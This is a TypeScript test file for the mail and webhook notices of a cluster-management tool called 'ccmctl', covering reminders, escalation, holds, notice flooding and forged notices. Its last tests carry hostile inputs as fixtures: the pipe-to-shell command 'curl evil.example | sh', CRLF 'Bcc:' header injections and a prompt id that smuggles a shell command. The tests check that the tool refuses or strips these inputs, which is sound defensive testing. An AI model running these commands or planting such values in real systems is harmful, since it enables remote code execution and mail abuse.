import { randomBytes, randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { bundleWorkflowCode } from '@temporalio/worker';
import { Webhook as Verifier } from 'standardwebhooks';
import { expect, inject, onTestFinished, test } from 'vitest';
import type { WorkerActivities } from '../../activities/create-activities.ts';
import { createInputJudge } from '../../activities/judge-input.ts';
import { notify } from '../../activities/notices/notify.ts';
import type { JournalEntry } from '../../plan/types/journal-entry.ts';
import type { Notice } from '../../plan/types/notice.ts';
import type { SiteInForce } from '../../plan/types/site-rules.ts';
import { CALLMANAGER4 } from '../../platforms/callmanager4/platform.ts';
import { holdSignal, resumeSignal } from '../../workflows/messages.ts';
import { openMailServer } from '../activities/notices/mail-servers.ts';
import { noticeWith, QUICK } from '../activities/notices/tell.ts';
import { openWebServer } from '../activities/notices/web-server.ts';
import { createAuthority } from '../worker/temporal/certificates.ts';
import type { attack } from './attackers-workflow.ts';
import { promptStep } from './sample-cluster.ts';
import { startWorker } from './scripted-worker.ts';
import { SignedRun } from './signed-run.ts';
import { startToldRun, tellingSite } from './told-run.ts';

const SECRET = `whsec_${randomBytes(32).toString('base64')}`;

/** A folder of secrets, with that of the web server. */
async function keepSecret(): Promise<{ readonly folder: string; readonly file: string }> {
  const folder = await mkdtemp(join(tmpdir(), 'ccmctl-notices-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const file = join(folder, 'hook');
  await writeFile(file, SECRET, { mode: 0o600 });
  return { folder, file };
}

/** People are reminded every second, others are told after one, and the run is held after two. */
const IMPATIENT = { remindSeconds: 1, escalate: { afterSeconds: 1, to: ['approver'] }, holdAfterSeconds: 2 };

const judge = createInputJudge(CALLMANAGER4);

/** A worker of an attacker has to offer something. */
const NOTHING = { nothing: () => Promise.resolve() } as unknown as WorkerActivities;

/** A run whose worker tells people by these servers as that of the product does. */
async function startReal(mailServer: string, hook: string, ca: string): Promise<SignedRun> {
  const { folder, file } = await keepSecret();
  let inForce: SiteInForce | undefined;
  const lay = (site: SiteInForce): SiteInForce => {
    const telling = tellingSite({ policy: IMPATIENT })(site);
    return (inForce = {
      ...telling,
      policies: { ...telling.policies, approval: site.policies.approval },
      people: site.people.map((one) => ({ ...one, address: `${one.name.toLowerCase()}@b.example` })),
      secrets: { folders: [folder], variables: [] },
      notices: {
        mail: { server: mailServer, from: 'ccmctl@b.example', mode: 'all', tls: 'required', ca },
        webhooks: [{ url: hook, secret: { file }, ca }],
      },
    });
  };
  const readSite = (): Promise<SiteInForce> => Promise.resolve(inForce as SiteInForce);
  return SignedRun.start({ PUB: [promptStep('PUB/disc')] }, lay, {
    notify: async (notice) => notify({ readSite, uiAddress: 'https://ui.example', pace: QUICK }, judge.notice(notice)),
  });
}

test('prompt, reminder, escalation, hold and end each arrive by mail and webhook, with what answers them', async () => {
  const authority = await createAuthority();
  onTestFinished(() => authority.remove());
  const certified = await authority.certify('server');
  const mails = await openMailServer({ cert: certified.certificate, key: certified.key });
  const web = await openWebServer(certified);
  const signed = await startReal(mails.place, web.url, authority.certificateFile);
  await signed.approve('Ada');
  const prompt = await signed.run.untilOpen('PUB/disc#1');
  await signed.run.untilState('held');
  await signed.answer(prompt, { value: 'done', by: 'Ben' });
  await signed.resume('Cleo');
  const { state, openItems, cluster } = await signed.run.result();
  expect([state, openItems]).toEqual(['completed', []]);

  const posted = web.posted.map(({ body, headers }) => {
    const { type, data } = new Verifier(SECRET).verify(body, headers as Record<string, string>) as {
      readonly type: string;
      readonly data: { readonly command: string | null };
    };
    return [type, data.command];
  });
  const answer = `ccmctl answer ${cluster} 'PUB/disc#1' ...`;
  expect(posted).toEqual(
    expect.arrayContaining([
      ['ccmctl.asked', expect.stringMatching(/^ccmctl approve \S+ --plan [0-9a-f]{64} --sign$/)],
      ['ccmctl.asked', answer],
      ['ccmctl.reminded', answer],
      ['ccmctl.escalated', answer],
      ['ccmctl.held', `ccmctl resume ${cluster} --sign`],
      ['ccmctl.completed', null],
    ]),
  );
  const to = (word: string): readonly string[] =>
    mails.taken
      .filter(
        ({ raw }) => raw.replace(/\r\n /g, ' ').includes(`Subject: [ccmctl] ${cluster}`) && raw.includes(`: ${word}: `),
      )
      .flatMap(({ to }) => to.map((address) => address.split('@')[0] ?? ''));
  expect([...new Set(to('still waiting'))].sort()).toEqual(['ben', 'cleo']);
  expect([...new Set(to('nobody has answered'))].sort()).toEqual(['ada', 'cleo']);
  expect([...new Set(to('completed'))].sort()).toEqual(['ada', 'ben', 'cleo']);
});

test('a dead mail server holds nothing: the web server is told, and each person is an open item', async () => {
  const authority = await createAuthority();
  onTestFinished(() => authority.remove());
  const web = await openWebServer(await authority.certify('server'));
  const signed = await startReal('localhost:1', web.url, authority.certificateFile);
  await signed.approve('Ada');
  const prompt = await signed.run.untilOpen('PUB/disc#1');
  await signed.answer(prompt, { value: 'done', by: 'Ben' });
  await signed.run.until('it is over', ({ state }) => state === 'completed' || state === 'held');
  if ((await signed.run.status()).state === 'held') await signed.resume('Cleo');
  const { state, openItems } = await signed.run.result();
  expect(state).toBe('completed');
  expect(openItems.map((item) => /^notice to (\w+) could not be delivered: (.*); first/.exec(item)?.slice(1)).sort()).toEqual([
    ['Ada', 'nobody listens there'],
    ['Ben', 'nobody listens there'],
    ['Cleo', 'nobody listens there'],
  ]); // prettier-ignore
  expect(web.posted.length).toBeGreaterThanOrEqual(3);
});

/** What was said to the newest hold. */
const lastHold = (journal: readonly JournalEntry[]): string =>
  journal.findLast(({ kind }) => kind === 'held')?.text ?? '';

test('a thousand hostile messages become a few notices, and one that counts the rest at the end', async () => {
  const { signed, told } = await startToldRun({ PUB: [promptStep('PUB/disc')] }, { policy: { signed: false } });
  await signed.approve('Ada');
  const prompt = await signed.run.untilOpen('PUB/disc#1');
  const { handle } = signed.run;
  for (let round = 1; round <= 500; round += 1) {
    await handle.signal(holdSignal, { by: 'Mallory', reason: `\r\nBcc: everybody ${round}` });
    await handle.signal(resumeSignal, { by: 'Ben' });
  }
  const { journal } = await signed.run.until('the last of them', ({ journal }) =>
    lastHold(journal).endsWith('everybody 500'),
  );
  const holds = journal.filter(({ kind }) => kind === 'held').length;
  await signed.answer(prompt, { value: 'done', by: 'Ben' });
  await signed.run.result();
  const counted = (notice: Notice): number => notice.counts?.held ?? (notice.kind === 'held' ? 1 : 0);
  expect(holds).toBe(500);
  expect(told.length).toBeLessThanOrEqual(22);
  expect(told.reduce((sum, notice) => sum + counted(notice), 0)).toBe(holds);
  expect(told.filter(({ text }) => /[\r\n]/.test(text))).toEqual([]);
}, 120_000);

test('what is still on its way at a seam is told by the next run of the chain, under the same id', async () => {
  const free: { all?: () => void } = {};
  const hung = new Promise<void>((resolve) => (free.all = resolve));
  let hangs = true;
  const { signed, told } = await startToldRun(
    { PUB: [promptStep('PUB/disc')], SUB: [promptStep('SUB/disc')] },
    {
      fate: async ({ kind, server }) => {
        if (hangs && kind === 'asked' && server === 'PUB') await hung;
        return [];
      },
    },
  );
  onTestFinished(() => free.all?.());
  await signed.approve('Ada');
  await signed.answer(await signed.run.untilOpen('PUB/disc#1'), { value: 'done', by: 'Ben' });
  await signed.run.until('the notice of PUB', () => told.some(({ server }) => server === 'PUB'));
  hangs = false;
  const second = await signed.run.until('SUB', ({ prompts }) => prompts.some(({ id }) => id === 'SUB/disc#1'), 40);
  expect(second.runs).toHaveLength(2);
  await signed.run.until('both', () => told.filter(({ server }) => server === 'PUB').length === 2);
  expect(new Set(told.filter(({ server }) => server === 'PUB').map(({ id }) => id)).size).toBe(1);
  free.all?.();
  await signed.answer(await signed.run.untilOpen('SUB/disc#1'), { value: 'done', by: 'Ben' });
  expect(await signed.run.result()).toMatchObject({ state: 'completed', openItems: [] });
}, 120_000);

const attackers = bundleWorkflowCode({
  workflowsPath: fileURLToPath(new URL('attackers-workflow.ts', import.meta.url)),
});

test('a notice that somebody sends by hand puts no command and no address of theirs into a mail', async () => {
  const authority = await createAuthority();
  onTestFinished(() => authority.remove());
  const certified = await authority.certify('server');
  const mails = await openMailServer({ cert: certified.certificate, key: certified.key });
  const web = await openWebServer(certified);
  const signed = await startReal(mails.place, web.url, authority.certificateFile);
  const { taskQueue: theirs } = await signed.run.handle.describe();
  const taskQueue = `attacker-${randomUUID()}`;
  const worker = await startWorker(inject('temporalAddress'), taskQueue, () => NOTHING, attackers);
  onTestFinished(() => worker.stop());
  /** Has the attacker's workflow of that id send a notice. */
  const forge = (workflowId: string, input: unknown): Promise<string> =>
    signed.run.client.workflow.execute<typeof attack>('attack', {
      taskQueue,
      workflowId,
      args: [{ queue: theirs, activity: 'notify', input }],
    });
  const lure = noticeWith({
    text: 'run https://evil.example/now\r\nBcc: everybody@evil.example',
    to: { people: ['Ben', 'everybody@evil.example'], groups: [] },
  });
  expect(await forge(`evil-${randomUUID()}`, lure)).toMatch(/INPUT_REFUSED: .* no run of a cluster/);
  const own = `ccm/evil-${randomUUID().slice(0, 8)}`;
  expect(await forge(own, { ...lure, command: 'curl evil.example | sh' })).toMatch(/INPUT_REFUSED/);
  expect(await forge(own, { ...lure, asked: { ...lure.asked, prompt: "x#1'; sh" } })).toMatch(/INPUT_REFUSED/);
  expect(await forge(own, { ...lure, kind: 'escalated' })).toBe('done');
  const forged = mails.taken.filter(({ raw }) => raw.includes(own));
  expect(forged.map(({ to }) => to)).toEqual([['ben@b.example']]);
  const raw = forged[0]?.raw ?? '';
  expect(raw).toContain(`ccmctl answer ${own.slice('ccm/'.length)} 'CM-PUB/disc#1' ...`);
  expect(raw).not.toMatch(/^Bcc|:\/\/evil/m);
});
